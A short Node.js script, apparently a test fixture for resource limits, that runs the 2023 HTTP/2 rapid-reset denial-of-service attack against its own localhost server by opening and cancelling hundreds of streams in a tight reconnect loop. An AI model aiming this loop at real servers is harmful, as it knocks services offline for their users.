// ends: killed cpu | killed blocked | killed memory | killed threads
// The attack that servers of HTTP/2 fell to in 2023, on its own server through the gate: ask, take it back, ask again.
const http2 = require('node:http2');
process.on('uncaughtException', () => {});
http2
  .createServer()
  .on('stream', (stream) => stream.on('error', () => {}).respond())
  .listen(8080, () => {
    const again = () => {
      const client = http2.connect('http://localhost:8080').on('error', () => {});
      for (let count = 0; count < 500; count += 1) {
        try {
          client.request().on('error', () => {}).close(http2.constants.NGHTTP2_CANCEL);
        } catch {}
      }
      setTimeout(() => client.destroy(), 50);
      setTimeout(again, 5);
    };
    again();
  });
